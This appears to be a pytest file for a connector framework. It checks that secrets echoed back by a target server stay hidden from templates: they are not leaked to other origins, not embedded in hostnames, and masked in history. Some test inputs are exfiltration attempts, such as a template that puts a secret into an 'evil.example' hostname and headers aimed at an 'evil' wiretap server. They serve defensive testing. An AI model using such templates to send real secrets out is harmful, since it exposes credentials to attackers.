"""A secret that a target repeats is as opaque to templates as it was before, in both lanes."""

from __future__ import annotations

import json
from typing import Any

import pytest

from connectors.opaque.tokens import MARK
from connectors.origins import origin_of
from connectors.registry import Lane
from tests.hostile import http
from tests.hostile.frames import frame, read_message, upgrade
from tests.hostile.good import GOOD
from tests.hostile.server import HostileServer, Peer
from tests.hostile.table import SSE_TYPE, whole
from tests.hostile.websocket import ANSWER
from tests.integration.connectors.lanes import LANES, Client, one_turn
from tests.integration.connectors.scripted import Asked, asked, scripted
from tests.integration.connectors.security.planted import KEY, spec_of
from tests.integration.connectors.websocket.talking import wait_for
from tests.support.servers.wiretap import wiretap

lanes = pytest.mark.parametrize("lane", LANES)


@lanes
@pytest.mark.parametrize("template", ["{{ saved.echo }}", "{{ saved.echo | reverse }}", "{{ saved.echo[3:] }}"])
def test_what_an_allowed_origin_repeats(lane: Lane, template: str) -> None:
    """Saved from its answer, a secret is as opaque as before."""
    with (
        wiretap(GOOD["http"]) as evil,
        scripted(lambda asked: whole(json.dumps({"echo": f"you are {asked.headers.get('x-key')}"}).encode())) as here,
    ):
        first = {"name": "a", "url": "/echo", "headers": {"x-key": "{{ secret.key }}"}, "save": {"echo": "echo"}}
        second = {"name": "b", "url": f"{evil.url}/b", "headers": {"x-echo": template}}
        form = {"handshake": {"steps": [first, second]}}
        turn = one_turn(lane, spec_of("http", here.url, [origin_of(here.url)], **form))
        assert not evil.holds(KEY, KEY[::-1], KEY[3:])
        assert turn.code == "secret_withheld" or "reverse" in template or "[3:]" in template


@lanes
def test_a_repeated_secret_is_no_host(lane: Lane) -> None:
    with scripted(lambda asked: whole(json.dumps({"echo": asked.headers.get("x-key")}).encode())) as here:
        first = {"name": "a", "url": "/echo", "headers": {"x-key": "{{ secret.key }}"}, "save": {"echo": "echo"}}
        second = {"name": "b", "url": "http://{{ saved.echo }}.evil.example/b"}
        turn = one_turn(lane, spec_of("http", here.url, None, handshake={"steps": [first, second]}))
    assert turn.error is not None
    assert "a secret cannot be a host" in turn.error.detail


@lanes
@pytest.mark.parametrize("stream", [False, True])
def test_a_secret_that_an_answer_repeats_is_opaque_in_the_history(lane: Lane, stream: bool) -> None:
    def answer(asked: Asked) -> bytes:
        text = json.dumps({"text": f"you are {asked.headers.get('x-key')}"}).encode()
        return whole(b"data: %b\n\ndata: [DONE]\n\n" % text, SSE_TYPE) if stream else whole(text)

    form: dict[str, Any] = {"request": {"headers": {"x-key": "{{ secret.key }}"}}}
    form["response"] = {"delta": "text"} if stream else {"text": "text"}
    with scripted(answer) as here:
        turn = one_turn(lane, spec_of("sse" if stream else "http", here.url, None, **form))
    assert turn.code is None, turn.error
    assert turn.text.startswith(f"you are {MARK}")
    assert KEY not in turn.text


@lanes
@pytest.mark.parametrize("unasked", [True, False], ids=["greeting", "between_turns"])
def test_what_a_target_repeats_without_being_asked(lane: Lane, unasked: bool) -> None:
    """Such a message may be saved too, and templates cannot look into the secret there either."""
    messages: list[bytes] = []

    def script(peer: Peer) -> None:
        upgrade(peer)
        repeated = frame(json.dumps({"echo": asked(peer.last).headers["x-key"]}).encode())
        peer.send(repeated if unasked else b"")
        messages.append(read_message(peer))
        peer.send(ANSWER + (b"" if unasked else repeated))
        messages.append(read_message(peer))
        peer.send(ANSWER)
        peer.hold()

    form: dict[str, Any] = {
        "request": {
            "headers": {"x-key": "{{ secret.key }}"},
            "body": ["{{ saved.echo }}", "{{ saved.echo | reverse }}"],
        },
        "response": {"save": {"echo": "echo"}},
    }
    if unasked:
        form["greeting"] = {"until": {"path": "echo"}}
    with HostileServer(script) as server, Client(lane, spec_of("websocket", server.url, None, **form)) as client:
        client.say()
        wait_for(client, lambda: "echo" in client.connector.saved)
        client.say()
    assert json.loads(messages[1])[0] == KEY, "what may have it gets it"
    assert KEY[::-1] not in str(messages)
    assert KEY not in str(client.connector.saved)


@lanes
def test_values_that_repeat_a_secret_are_still_sent_to_where_it_may_go(lane: Lane) -> None:
    def answer(asked: Asked) -> bytes:
        if asked.path == "/echo":
            return whole(json.dumps({"echo": f"session of {asked.headers.get('x-key')}"}).encode())
        return whole(http.GOOD)

    with scripted(answer) as here:
        step = {"name": "a", "url": "/echo", "headers": {"x-key": "{{ secret.key }}"}, "save": {"echo": "echo"}}
        form = {"handshake": {"steps": [step]}, "request": {"headers": {"x-echo": "{{ saved.echo }}"}}}
        assert one_turn(lane, spec_of("http", here.url, None, **form)).code is None
        assert here.requests[-1].headers["x-echo"] == f"session of {KEY}"
